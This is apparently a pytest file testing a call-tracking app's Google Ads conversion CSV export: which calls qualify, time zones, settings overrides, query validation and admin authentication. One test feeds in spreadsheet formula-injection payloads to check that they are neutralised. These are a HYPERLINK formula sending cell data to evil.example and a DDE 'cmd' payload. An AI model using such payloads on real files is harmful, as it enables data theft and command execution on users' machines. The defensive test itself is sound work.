"""GET /v1/exports/google-ads-conversions.csv against a small history worked out by hand."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from pydantic import ValidationError

from app.db.models import Call, VisitorSession
from app.main import create_app
from app.settings import Settings
from tests.conftest import make_settings
from tests.support import ADMIN, FakeClock

URL = "/v1/exports/google-ads-conversions.csv"
PERIOD = {"from": "2026-11-10", "to": "2026-11-14"}
GCLID_HEADER = (
    "Google Click ID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency"
)
BRAID_HEADER = (
    "Google Click ID,GBRAID,WBRAID,Conversion Name,Conversion Time,Conversion Value,"
    "Conversion Currency"
)


def at(day: int, hour: int, minute: int = 0, second: int = 0) -> datetime:
    """A UTC instant in November 2026 (New York is on EST, -05:00, all month)."""
    return datetime(2026, 11, day, hour, minute, second, tzinfo=UTC)


# visit: its click ids
VISITS: dict[str, dict[str, str]] = {
    "G1": {"gclid": "Cj0KCQiA1gclid"},
    "G2": {"gclid": "EAIaIQ2gclid", "gbraid": "0AAAAA-never-sent"},  # the gclid wins
    "B1": {"gbraid": "0AAAAAgbraid1"},
    "W1": {"wbraid": "CkQKCAwbraid1"},
    "BW": {"gbraid": "0AAAAAgbraid2", "wbraid": "CkQKCAwbraid2"},  # the wbraid wins
    "E": {"gclid": "", "gbraid": "  "},  # blank ids are no ids
    "N": {"utm_source": "newsletter", "utm_medium": "email"},
}

# (call, visit, started, first_time, talk seconds), written in this order: ids follow it.
CALLS: list[tuple[str, str | None, datetime, bool | None, int | None]] = [
    ("K5", "W1", at(13, 16, 45), True, 90),
    ("K1", "G1", at(10, 14, 3), True, 120),
    ("K14", "G2", at(10, 14, 3), None, 65),  # K1's start, a later id
    ("K2", "G2", at(11, 9, 30, 15), False, 60),  # exactly the threshold
    ("K3", "B1", at(12, 10), True, 59),  # a second short
    ("K4", "B1", at(12, 11), True, 300),
    ("K6", "BW", at(13, 17), True, 61),
    ("K7", "E", at(12, 12), True, 200),
    ("K8", "N", at(12, 13), True, 200),
    ("K9", None, at(12, 14), True, 200),  # no visit
    ("K10", "G1", at(10, 3, 30), False, 100),  # 22:30 on the 9th in New York
    ("K11", "G1", at(15, 2), True, 75),  # 21:00 on the 14th in New York
    ("K12", "G1", at(12, 15), True, None),  # never answered
    ("K13", "G1", at(9, 23, 59, 59), True, 100),  # the 10th from UTC+05:30 on
]


async def build(app: FastAPI) -> None:
    """Write the visits and the calls."""
    async with app.state.ct.sessionmaker() as db, db.begin():
        made = at(1, 0)
        for name, ids in VISITS.items():
            db.add(VisitorSession(id=f"session-{name}", created_at=made, last_seen_at=made, **ids))
        await db.flush()
        for call_id, visit, started, first, talk in CALLS:
            db.add(
                Call(
                    provider="cloudonix",
                    provider_call_id=call_id,
                    direction="inbound",
                    from_number="+16175550100",
                    to_number="+12565550101",
                    session_id=f"session-{visit}" if visit else None,
                    attribution="dni" if visit else "unattributed",
                    first_time=first,
                    status="completed",
                    started_at=started,
                    answered_at=started if talk is not None else None,
                    talk_seconds=talk,
                    created_at=started,
                    updated_at=started,
                )
            )


@pytest.fixture
async def history(app: FastAPI) -> None:
    """The history, written straight to the database."""
    await build(app)


async def export(client: httpx.AsyncClient, **params: str) -> str:
    """The file's text, asserting a 200 CSV download."""
    answer = await client.get(URL, params={**PERIOD, **params}, headers=ADMIN)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    return answer.text


def lines(*rows: str) -> str:
    """The CSV text of these rows, as the export ends each of them."""
    return "".join(row + "\r\n" for row in rows)


@pytest.mark.usefixtures("history")
async def test_the_period_one_row_per_call_with_exactly_one_click_id(
    client: httpx.AsyncClient,
) -> None:
    # In: K10, K1 and K14 (same start: by id), K2 (60 s), K4 (gbraid), K5 (wbraid), K6
    # (both braids: the wbraid). Out: K3 (59 s), K7 (blank ids), K8 (no click id), K9 (no
    # visit), K11 (the 15th), K12 (no talk), K13 (the 9th).
    assert await export(client) == lines(
        BRAID_HEADER,
        "Cj0KCQiA1gclid,,,Phone call,2026-11-10 03:30:00+00:00,0,USD",
        "Cj0KCQiA1gclid,,,Phone call,2026-11-10 14:03:00+00:00,0,USD",
        "EAIaIQ2gclid,,,Phone call,2026-11-10 14:03:00+00:00,0,USD",
        "EAIaIQ2gclid,,,Phone call,2026-11-11 09:30:15+00:00,0,USD",
        ",0AAAAAgbraid1,,Phone call,2026-11-12 11:00:00+00:00,0,USD",
        ",,CkQKCAwbraid1,Phone call,2026-11-13 16:45:00+00:00,0,USD",
        ",,CkQKCAwbraid2,Phone call,2026-11-13 17:00:00+00:00,0,USD",
    )


@pytest.mark.usefixtures("history")
async def test_gclid_calls_only_are_googles_five_column_template(
    client: httpx.AsyncClient,
) -> None:
    answer = await client.get(URL, params={"from": "2026-11-10", "to": "2026-11-11"}, headers=ADMIN)
    assert answer.status_code == 200
    assert answer.text == lines(
        GCLID_HEADER,
        "Cj0KCQiA1gclid,Phone call,2026-11-10 03:30:00+00:00,0,USD",
        "Cj0KCQiA1gclid,Phone call,2026-11-10 14:03:00+00:00,0,USD",
        "EAIaIQ2gclid,Phone call,2026-11-10 14:03:00+00:00,0,USD",
        "EAIaIQ2gclid,Phone call,2026-11-11 09:30:15+00:00,0,USD",
    )
    assert (
        answer.headers["content-disposition"]
        == 'attachment; filename="google-ads-conversions-2026-11-10-2026-11-11.csv"'
    )


@pytest.mark.usefixtures("history")
async def test_the_talk_time_threshold(client: httpx.AsyncClient) -> None:
    day = {"from": "2026-11-12", "to": "2026-11-12"}
    # K3 talked 59 s: out at 60, in at 59; K4 (300 s) in both; K12 (never answered) never.
    assert await export(client, **day) == lines(
        BRAID_HEADER, ",0AAAAAgbraid1,,Phone call,2026-11-12 11:00:00+00:00,0,USD"
    )
    assert await export(client, **day, min_talk_seconds="59") == lines(
        BRAID_HEADER,
        ",0AAAAAgbraid1,,Phone call,2026-11-12 10:00:00+00:00,0,USD",
        ",0AAAAAgbraid1,,Phone call,2026-11-12 11:00:00+00:00,0,USD",
    )
    # K2 talked exactly 60 s: in at 60, out at 61.
    day = {"from": "2026-11-11", "to": "2026-11-11"}
    assert "09:30:15" in await export(client, **day, min_talk_seconds="60")
    assert await export(client, **day, min_talk_seconds="61") == lines(GCLID_HEADER)


@pytest.mark.usefixtures("history")
async def test_the_time_zone_moves_the_days_and_the_times(client: httpx.AsyncClient) -> None:
    # New York's 10th-14th: K10 (22:30 on the 9th there) falls out, K11 (21:00 on the 14th)
    # falls in; every time is written at -05:00.
    assert await export(client, tz="America/New_York") == lines(
        BRAID_HEADER,
        "Cj0KCQiA1gclid,,,Phone call,2026-11-10 09:03:00-05:00,0,USD",
        "EAIaIQ2gclid,,,Phone call,2026-11-10 09:03:00-05:00,0,USD",
        "EAIaIQ2gclid,,,Phone call,2026-11-11 04:30:15-05:00,0,USD",
        ",0AAAAAgbraid1,,Phone call,2026-11-12 06:00:00-05:00,0,USD",
        ",,CkQKCAwbraid1,Phone call,2026-11-13 11:45:00-05:00,0,USD",
        ",,CkQKCAwbraid2,Phone call,2026-11-13 12:00:00-05:00,0,USD",
        "Cj0KCQiA1gclid,,,Phone call,2026-11-14 21:00:00-05:00,0,USD",
    )
    # Kolkata's 10th began at 18:30 UTC on the 9th: K13 is in, and the offset has minutes.
    kolkata = {"from": "2026-11-10", "to": "2026-11-10", "tz": "Asia/Kolkata"}
    assert await export(client, **kolkata) == lines(
        GCLID_HEADER,
        "Cj0KCQiA1gclid,Phone call,2026-11-10 05:29:59+05:30,0,USD",
        "Cj0KCQiA1gclid,Phone call,2026-11-10 09:00:00+05:30,0,USD",
        "Cj0KCQiA1gclid,Phone call,2026-11-10 19:33:00+05:30,0,USD",
        "EAIaIQ2gclid,Phone call,2026-11-10 19:33:00+05:30,0,USD",
    )


@pytest.mark.usefixtures("history")
async def test_first_time_callers_only(client: httpx.AsyncClient) -> None:
    # K10 and K2 are repeat callers; K14 was never decided (null): none of them.
    assert await export(client, first_time_only="true") == lines(
        BRAID_HEADER,
        "Cj0KCQiA1gclid,,,Phone call,2026-11-10 14:03:00+00:00,0,USD",
        ",0AAAAAgbraid1,,Phone call,2026-11-12 11:00:00+00:00,0,USD",
        ",,CkQKCAwbraid1,Phone call,2026-11-13 16:45:00+00:00,0,USD",
        ",,CkQKCAwbraid2,Phone call,2026-11-13 17:00:00+00:00,0,USD",
    )
    assert await export(client, first_time_only="false") == await export(client)


@asynccontextmanager
async def serve(
    database_url: str, clock: FakeClock, **overrides: Any
) -> AsyncIterator[httpx.AsyncClient]:
    """An app with particular settings, its history written, and a client."""
    app = create_app(make_settings(database_url, **overrides), clock=clock)
    async with app.router.lifespan_context(app):
        await build(app)
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://t") as client:
            yield client


async def test_the_settings_and_the_query_overrides(database_url: str, clock: FakeClock) -> None:
    async with serve(
        database_url,
        clock,
        google_ads_min_talk_seconds=100,
        google_ads_conversion_name="Qualified call",
        google_ads_conversion_value="12.50",
        google_ads_currency="eur",
    ) as client:
        # At least 100 s: K10 (100), K1 (120), K4 (300).
        assert await export(client) == lines(
            BRAID_HEADER,
            "Cj0KCQiA1gclid,,,Qualified call,2026-11-10 03:30:00+00:00,12.50,EUR",
            "Cj0KCQiA1gclid,,,Qualified call,2026-11-10 14:03:00+00:00,12.50,EUR",
            ",0AAAAAgbraid1,,Qualified call,2026-11-12 11:00:00+00:00,12.50,EUR",
        )
        # The query beats the settings; 0 s lets K3 (59 s) in, but never K12 (no talk).
        found = await export(client, min_talk_seconds="0", conversion_name="Booked call")
        assert [row[3:] for row in csv.reader(io.StringIO(found))][1:] == [
            ["Booked call", "2026-11-10 03:30:00+00:00", "12.50", "EUR"],
            ["Booked call", "2026-11-10 14:03:00+00:00", "12.50", "EUR"],
            ["Booked call", "2026-11-10 14:03:00+00:00", "12.50", "EUR"],
            ["Booked call", "2026-11-11 09:30:15+00:00", "12.50", "EUR"],
            ["Booked call", "2026-11-12 10:00:00+00:00", "12.50", "EUR"],
            ["Booked call", "2026-11-12 11:00:00+00:00", "12.50", "EUR"],
            ["Booked call", "2026-11-13 16:45:00+00:00", "12.50", "EUR"],
            ["Booked call", "2026-11-13 17:00:00+00:00", "12.50", "EUR"],
        ]


def test_the_settings_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    defaults = Settings()
    assert defaults.google_ads_min_talk_seconds == 60
    assert defaults.google_ads_conversion_name == "Phone call"
    assert defaults.google_ads_conversion_value == Decimal(0)
    assert defaults.google_ads_currency == "USD"
    monkeypatch.setenv("CALLTRACK_GOOGLE_ADS_MIN_TALK_SECONDS", "30")
    monkeypatch.setenv("CALLTRACK_GOOGLE_ADS_CONVERSION_NAME", "Sales call")
    monkeypatch.setenv("CALLTRACK_GOOGLE_ADS_CONVERSION_VALUE", "99.90")
    monkeypatch.setenv("CALLTRACK_GOOGLE_ADS_CURRENCY", "gbp")
    read = Settings()
    assert read.google_ads_min_talk_seconds == 30
    assert read.google_ads_conversion_name == "Sales call"
    assert read.google_ads_conversion_value == Decimal("99.90")
    assert read.google_ads_currency == "GBP"
    for name, value in (("CURRENCY", "dollars"), ("CONVERSION_VALUE", "-1")):
        monkeypatch.setenv(f"CALLTRACK_GOOGLE_ADS_{name}", value)
        with pytest.raises(ValidationError):
            Settings()
        monkeypatch.delenv(f"CALLTRACK_GOOGLE_ADS_{name}")


async def test_an_empty_period_is_the_header_alone(client: httpx.AsyncClient) -> None:
    assert await export(client) == lines(GCLID_HEADER)


@pytest.mark.usefixtures("history")
@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ('=HYPERLINK("https://evil.example/?d="&A1,"Open")', "'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("Call, booked", "Call, booked"),
    ],
)  # fmt: skip
async def test_a_formula_is_written_as_text(
    client: httpx.AsyncClient, name: str, cell: str
) -> None:
    found = await export(client, **{"from": "2026-11-11", "to": "2026-11-11"}, conversion_name=name)
    rows = list(csv.reader(io.StringIO(found)))
    assert rows[1] == ["EAIaIQ2gclid", cell, "2026-11-11 09:30:15+00:00", "0", "USD"]
    if name.startswith("="):
        quoted = '\'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")'
        assert found.splitlines()[1] == f'EAIaIQ2gclid,"{quoted}",2026-11-11 09:30:15+00:00,0,USD'


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "2026-11-14", "to": "2026-11-10"}, "query.to"),
        ({"from": "2025-01-01", "to": "2026-11-10"}, "query.to"),
        ({"to": "2026-11-10"}, "query.from"),
        ({"from": "2026-11-10"}, "query.to"),
        ({"from": "2026-13-01", "to": "2026-11-10"}, "query.from"),
        ({"from": "2026-11-10", "to": "yesterday"}, "query.to"),
        ({**PERIOD, "tz": "Mars/Olympus"}, "query.tz"),
        ({**PERIOD, "min_talk_seconds": "-1"}, "query.min_talk_seconds"),
        ({**PERIOD, "min_talk_seconds": "a minute"}, "query.min_talk_seconds"),
        ({**PERIOD, "conversion_name": ""}, "query.conversion_name"),
        ({**PERIOD, "conversion_name": "x" * 101}, "query.conversion_name"),
        ({**PERIOD, "first_time_only": "perhaps"}, "query.first_time_only"),
    ],
)
async def test_bad_queries_name_the_field(
    client: httpx.AsyncClient, params: dict[str, str], field: str
) -> None:
    answer = await client.get(URL, params=params, headers=ADMIN)
    assert answer.status_code == 422, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    assert answer.json()["field"] == field


async def test_the_export_needs_the_admin_token(client: httpx.AsyncClient) -> None:
    answer = await client.get(URL, params=PERIOD)
    assert answer.status_code == 401
    assert answer.headers["content-type"] == "application/problem+json"
    wrong = await client.get(URL, params=PERIOD, headers={"Authorization": "Bearer nope"})
    assert wrong.status_code == 401
